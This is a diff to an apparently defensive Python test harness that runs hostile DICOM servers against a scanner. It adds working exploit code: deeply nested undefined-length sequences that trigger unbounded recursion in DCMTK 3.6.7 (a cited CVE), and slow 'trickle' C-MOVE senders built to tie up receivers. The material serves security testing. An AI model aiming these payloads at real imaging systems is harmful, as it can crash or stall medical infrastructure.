@@ -24,6 +24,23 @@ Modes (one listener per --port; --port may be a comma-separated list):
             Error Comment and Affected SOP Class UID hold them; A-RELEASE-RQ gets A-RELEASE-RP.
             --variant rj: an A-ASSOCIATE-RJ with out-of-range result/source/reason and hostile
             trailing bytes. --variant abort: an A-ABORT with out-of-range source/reason.
+            --variant nested: a clean A-ASSOCIATE-AC (every context accepted, Implicit VR Little
+            Endian), then every DIMSE request is answered with a command set holding --depth
+            (default 20000) nested undefined-length sequences (16 bytes a level, about 320 KB in
+            PDUs of 16 KB): DCMTK 3.6.7 parses that with unbounded recursion (CVE-2026-44031).
+            --variant nested-find: the same clean SCP answers C-ECHO, C-STORE, C-MOVE and C-GET
+            with success and C-FIND with one pending response whose identifier is nested
+            --depth deep. With --tls-cert/--tls-key (PEM) both variants speak DICOM over TLS.
+  mover     the clean SCP of badbytes --variant nested-find, answering C-FIND with no match and
+            C-STORE with success, that plays a hostile C-MOVE sender when asked to move to AE
+            --move-aet (default PACSCAN): it connects from --bind to the requester's address on
+            --move-port (from --move-from instead when given). --variant trickle: a complete
+            association and a C-STORE whose data set arrives 16 bytes a second, each piece a
+            complete P-DATA-TF (no read timeout fires, only a hard deadline ends it); trickle-rq:
+            the A-ASSOCIATE-RQ itself one byte a second; both keep the C-MOVE open with a
+            pending response every second. --variant nested: a complete association and a
+            C-STORE whose data set is nested --depth deep, then a final C-MOVE response. Each
+            sender appends "sender <variant> <event>" to --log.
   decoy     a DICOM honeypot as dicompot (github.com/nsmfoo/dicompot, default settings) answers,
             per its source: every called and calling AE title accepted and echoed, every
             presentation context accepted with the first transfer syntax proposed (unknown SOP
@@ -279,6 +296,41 @@ def badbytes(conn, variant):
                 conn.sendall(hostile_rsp(pcid, field, msgid))
 
 
+
+# ---- a clean minimal SCP (variants nested / nested-find, mode mover) -----------------------
+
+IMPLICIT_LE = b"1.2.840.10008.1.2"
+MAX_PDV = 16000  # the data of one PDV, in its own P-DATA-TF (under pacscan's 16 KB max PDU)
+
+
+def clean_ac(rq_body):
+    """An A-ASSOCIATE-AC accepting every proposed context with Implicit VR Little Endian."""
+    contexts, _ = parse_rq_contexts(rq_body)
+    called, calling = rq_body[4:20], rq_body[20:36]
+    body = b"\x00\x01\x00\x00" + called + calling + b"\x00" * 32
+    body += item(0x10, b"1.2.840.10008.3.1.1.1")
+    for pcid, _ in contexts:
+        body += item(0x21, bytes([pcid, 0, 0, 0]) + item(0x40, IMPLICIT_LE))
+    user = item(0x51, struct.pack(">I", 16384)) + item(0x52, b"1.2.826.0.1.3680043.9.7433.99")
+    user += item(0x55, b"HOSTILE_PY")
+    body += item(0x50, user)
+    return b"\x02\x00" + struct.pack(">I", len(body)) + body, contexts
+
+
+def send_message(conn, pcid, data, command):
+    """data as PDVs of at most MAX_PDV bytes, one P-DATA-TF each; the last one flagged."""
+    chunks = [data[i:i + MAX_PDV] for i in range(0, len(data), MAX_PDV)] or [b""]
+    for k, chunk in enumerate(chunks):
+        mch = (0x01 if command else 0x00) | (0x02 if k == len(chunks) - 1 else 0x00)
+        pdv = struct.pack(">I", len(chunk) + 2) + bytes([pcid, mch]) + chunk
+        conn.sendall(b"\x04\x00" + struct.pack(">I", len(pdv)) + pdv)
+
+
+def nested(depth):
+    """depth levels of an undefined-length sequence (0008,1115) holding one undefined-length item;
+    no delimiter is needed to make DCMTK 3.6.7 recurse."""
+    return (struct.pack("<HHI", 0x0008, 0x1115, 0xFFFFFFFF) +
+            struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF)) * depth
 def rq_fields(body):
     """(called AE, calling AE, [(pc id, first transfer syntax)]) of an A-ASSOCIATE-RQ body."""
     called, calling = body[4:20], body[20:36]
@@ -301,6 +353,195 @@ def rq_fields(body):
 def command_set(elems):
     cmd = b"".join(elem(0, e, v) for e, v in elems)
     return elem(0, 0x0000, struct.pack("<I", len(cmd))) + cmd
+
+
+def rsp_command(field, msgid, status, sop=b"1.2.840.10008.1.1", dataset=False, extra=()):
+    return command_set([(0x0002, sop), (0x0100, struct.pack("<H", field | 0x8000)),
+                        (0x0120, struct.pack("<H", msgid)),
+                        (0x0800, struct.pack("<H", 0x0000 if dataset else 0x0101)),
+                        (0x0900, struct.pack("<H", status))] + list(extra))
+
+
+def parse_command(data):
+    f, i = {}, 0
+    while i + 8 <= len(data):
+        g, e, n = struct.unpack("<HHI", data[i:i + 8])
+        f[(g, e)] = data[i + 8:i + 8 + n]
+        i += 8 + n
+    return f
+
+
+def u16(f, k):
+    return struct.unpack("<H", f[k][:2])[0] if k in f and len(f[k]) >= 2 else 0
+
+
+class Scp:
+    """One association of the clean SCP: yields (pcid, command fields, dataset bytes or None)
+    for each complete DIMSE request; answers A-RELEASE-RQ."""
+
+    def __init__(self, conn):
+        self.conn = conn
+        self.contexts = []
+
+    def accept(self):
+        pdu = read_pdu(self.conn)
+        if pdu is None or pdu[0] != 0x01:
+            return False
+        ac, self.contexts = clean_ac(pdu[1])
+        self.conn.sendall(ac)
+        return True
+
+    def requests(self, seconds=120):
+        frags, waiting = {}, {}
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
+            pdu = read_pdu(self.conn)
+            if pdu is None:
+                return
+            t, body = pdu
+            if t == 0x05:
+                self.conn.sendall(b"\x06\x00" + struct.pack(">I", 4) + b"\x00" * 4)
+                time.sleep(0.2)
+                return
+            if t != 0x04:
+                return
+            i = 0
+            while i + 6 <= len(body):
+                n = struct.unpack(">I", body[i:i + 4])[0]
+                pcid, mch = body[i + 4], body[i + 5]
+                data = body[i + 6:i + 4 + n]
+                i += 4 + n
+                key = (pcid, bool(mch & 0x01))
+                frags[key] = frags.get(key, b"") + data
+                if not mch & 0x02:
+                    continue
+                whole = frags.pop(key)
+                if mch & 0x01:
+                    f = parse_command(whole)
+                    if u16(f, (0, 0x0800)) == 0x0101:
+                        yield pcid, f, None
+                    else:
+                        waiting[pcid] = f
+                elif pcid in waiting:
+                    yield pcid, waiting.pop(pcid), whole
+
+
+def answer(conn, pcid, f, status=0x0000, dataset=None, extra=()):
+    field, msgid = u16(f, (0, 0x0100)), u16(f, (0, 0x0110))
+    sop = f.get((0, 0x0002), b"1.2.840.10008.1.1").rstrip(b"\x00")
+    send_message(conn, pcid, rsp_command(field, msgid, status, sop, dataset is not None, extra),
+                 True)
+    if dataset is not None:
+        send_message(conn, pcid, dataset, False)
+
+
+def nested_scp(conn, variant, depth):
+    scp = Scp(conn)
+    if not scp.accept():
+        return
+    for pcid, f, _ in scp.requests():
+        field = u16(f, (0, 0x0100))
+        if variant == "nested":
+            msgid = u16(f, (0, 0x0110))
+            cmd = command_set([(0x0100, struct.pack("<H", field | 0x8000)),
+                               (0x0120, struct.pack("<H", msgid)),
+                               (0x0800, struct.pack("<H", 0x0101)),
+                               (0x0900, struct.pack("<H", 0x0000))]) + nested(depth)
+            send_message(conn, pcid, cmd, True)
+        elif field == 0x0020:  # C-FIND-RQ: one pending answer, its identifier nested
+            answer(conn, pcid, f, 0xFF00, nested(depth))
+            answer(conn, pcid, f, 0x0000)
+        else:
+            answer(conn, pcid, f, 0x0000)
+
+
+def assoc_rq(called, calling, sop):
+    body = b"\x00\x01\x00\x00" + pad16(called) + pad16(calling) + b"\x00" * 32
+    body += item(0x10, b"1.2.840.10008.3.1.1.1")
+    body += item(0x20, b"\x01\x00\x00\x00" + item(0x30, sop) + item(0x40, IMPLICIT_LE))
+    body += item(0x50, item(0x51, struct.pack(">I", 16384)) +
+                 item(0x52, b"1.2.826.0.1.3680043.9.7433.98"))
+    return b"\x01\x00" + struct.pack(">I", len(body)) + body
+
+
+def move_sender(variant, bind, to, rec, depth, done):
+    """The hostile C-MOVE sub-operation: from `bind` to the scanner's listener `to`."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    try:
+        s.bind((bind, 0))
+        s.settimeout(10)
+        s.connect(to)
+        rec.write(f"sender {variant} connected")
+        rq = assoc_rq(b"PACSCAN", b"HOSTILE", b"1.2.840.10008.5.1.4.1.1.7")
+        if variant == "trickle-rq":
+            for i in range(len(rq)):
+                if done.is_set():
+                    break
+                s.sendall(rq[i:i + 1])
+                time.sleep(1.0)
+            rec.write("sender trickle-rq finished")
+            return
+        s.sendall(rq)
+        pdu = read_pdu(s)
+        if pdu is None or pdu[0] != 0x02:
+            rec.write(f"sender {variant} no-ac {pdu[0] if pdu else None}")
+            return
+        rec.write(f"sender {variant} associated")
+        cmd = command_set([(0x0002, b"1.2.840.10008.5.1.4.1.1.7"),
+                           (0x0100, struct.pack("<H", 0x0001)), (0x0110, struct.pack("<H", 1)),
+                           (0x0700, struct.pack("<H", 0)), (0x0800, struct.pack("<H", 0)),
+                           (0x1000, b"1.2.826.0.1.3680043.9.7433.1.1")])
+        send_message(s, 1, cmd, True)
+        if variant == "trickle":
+            # One element announced 1 MB long, its value sent 16 bytes a second, each piece a
+            # complete P-DATA-TF: no read timeout ever fires, only the receiver's deadline.
+            value = struct.pack("<HHI", 0x0008, 0x0018, 1 << 20)
+            s.sendall(b"\x04\x00" + struct.pack(">I", 6 + len(value)) +
+                      struct.pack(">I", 2 + len(value)) + bytes([1, 0x00]) + value)
+            s.settimeout(2)
+            while not done.is_set():
+                piece = b"1" * 16
+                s.sendall(b"\x04\x00" + struct.pack(">I", 22) + struct.pack(">I", 18) +
+                          bytes([1, 0x00]) + piece)
+                time.sleep(1.0)
+            rec.write("sender trickle finished")
+            return
+        send_message(s, 1, nested(depth), False)
+        rec.write("sender nested sent")
+        s.settimeout(5)
+        while s.recv(65536):
+            pass
+        rec.write("sender nested closed-by-peer")
+    except OSError as e:
+        rec.write(f"sender {variant} error {e.__class__.__name__}")
+    finally:
+        s.close()
+
+
+def mover(conn, peer, variant, rec, move_port, move_aet, bind, depth):
+    scp = Scp(conn)
+    if not scp.accept():
+        return
+    for pcid, f, _ in scp.requests(300):
+        field = u16(f, (0, 0x0100))
+        dest = f.get((0, 0x0600), b"").rstrip(b" \x00")
+        if field != 0x0021 or dest != move_aet.encode():
+            answer(conn, pcid, f, 0x0000)  # C-ECHO, C-FIND (no match), C-STORE, C-GET, others
+            continue
+        done = threading.Event()
+        th = threading.Thread(target=move_sender,
+                              args=(variant, bind, (peer[0], move_port), rec, depth, done),
+                              daemon=True)
+        th.start()
+        end = time.monotonic() + 120
+        try:
+            while th.is_alive() and time.monotonic() < end:
+                if variant.startswith("trickle"):
+                    answer(conn, pcid, f, 0xFF00)  # pending: the C-MOVE never ends by itself
+                th.join(1.0)
+            answer(conn, pcid, f, 0x0000)
+        finally:
+            done.set()
 
 
 def decoy_rsp(pcid, fields, status):
@@ -374,10 +615,21 @@ def decoy(conn):
             conn.sendall(decoy_rsp(pcid, fields, 0x0211 if field == 0x0001 else 0x0000))
 
 
-def handle(mode, conn, peer, local_port, rec, text="", http=False, variant="ac"):
+def handle(mode, conn, peer, local_port, rec, text="", http=False, variant="ac", opts=None):
     try:
         if mode == "decoy":
             decoy(conn)
+            return
+        if mode == "badbytes" and variant in ("nested", "nested-find"):
+            if opts.tls_cert:
+                conn = tls_wrap(conn, opts)
+                if conn is None:
+                    return
+            nested_scp(conn, variant, opts.depth)
+            return
+        if mode == "mover":
+            mover(conn, peer, variant, rec, opts.move_port, opts.move_aet,
+                  opts.move_from or opts.bind, opts.depth)
             return
         if mode == "badbytes":
             badbytes(conn, variant)
@@ -433,7 +685,22 @@ def handle(mode, conn, peer, local_port, rec, text="", http=False, variant="ac")
 FAILED = []
 
 
-def serve(mode, addr, port, rec, stop, text="", http=False, variant="ac"):
+def tls_wrap(conn, opts):
+    """DICOM TLS for the nested variants (--tls-cert/--tls-key): the handshake, then the same
+    bytes as in cleartext. None when the peer's handshake fails (a cleartext probe)."""
+    import ssl
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    ctx.load_cert_chain(opts.tls_cert, opts.tls_key)
+    try:
+        conn.settimeout(10)
+        t = ctx.wrap_socket(conn, server_side=True)
+        t.settimeout(None)
+        return t
+    except (ssl.SSLError, OSError):
+        return None
+
+
+def serve(mode, addr, port, rec, stop, text="", http=False, variant="ac", opts=None):
     srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
     srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
     try:
@@ -456,7 +723,8 @@ def serve(mode, addr, port, rec, stop, text="", http=False, variant="ac"):
             break
         conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         t = threading.Thread(target=handle,
-                             args=(mode, conn, peer, local_port, rec, text, http, variant),
+                             args=(mode, conn, peer, local_port, rec, text, http, variant,
+                                   opts),
                              daemon=True)
         t.start()
     srv.close()
@@ -505,7 +773,7 @@ def sniff(iface, addr, rec, stop):
 def main():
     ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
     ap.add_argument("mode", choices=["tarpit", "garbage", "hugepdu", "drip", "abort", "close",
-                                     "banner", "badbytes", "decoy", "recorder", "sniff"])
+                                     "banner", "badbytes", "mover", "decoy", "recorder", "sniff"])
     ap.add_argument("--bind", default="127.0.0.1")
     ap.add_argument("--port", default="0", help="port or comma-separated ports (0 = ephemeral)")
     ap.add_argument("--log", default=None, help="file that recorder/sniff append to")
@@ -514,11 +782,23 @@ def main():
     ap.add_argument("--text-hex", default=None,
                     help="banner: the answer as hex bytes (any bytes, not only UTF-8)")
     ap.add_argument("--http", action="store_true", help="banner: answer HTTP, --text as Server")
-    ap.add_argument("--variant", default="ac", choices=["ac", "rj", "abort"],
-                    help="badbytes: which PDU carries the hostile bytes")
+    ap.add_argument("--variant", default=None,
+                    choices=["ac", "rj", "abort", "nested", "nested-find", "trickle",
+                             "trickle-rq"],
+                    help="badbytes: which PDU carries the hostile bytes (default ac); "
+                         "mover: trickle (default), trickle-rq or nested")
+    ap.add_argument("--depth", type=int, default=20000, help="nesting depth of nested variants")
+    ap.add_argument("--tls-cert", default=None, help="nested variants: PEM certificate (DICOM TLS)")
+    ap.add_argument("--tls-key", default=None, help="nested variants: PEM key")
+    ap.add_argument("--move-port", type=int, default=11113, help="mover: the scanner's listener")
+    ap.add_argument("--move-aet", default="PACSCAN", help="mover: the destination AE it serves")
+    ap.add_argument("--move-from", default=None,
+                    help="mover: the address the C-MOVE sender connects from (default --bind)")
     a = ap.parse_args()
     if a.mode in ("recorder", "sniff") and not a.log:
         ap.error(f"{a.mode} needs --log")
+    if a.variant is None:
+        a.variant = "trickle" if a.mode == "mover" else "ac"
     rec = Recorder(a.log)
     stop = threading.Event()
     if a.text_hex is not None:
@@ -536,7 +816,7 @@ def main():
         for p in a.port.split(","):
             threads.append(threading.Thread(target=serve,
                                             args=(a.mode, a.bind, int(p), rec, stop, a.text,
-                                                  a.http, a.variant),
+                                                  a.http, a.variant, a),
                                             daemon=True))
     for t in threads:
         t.start()
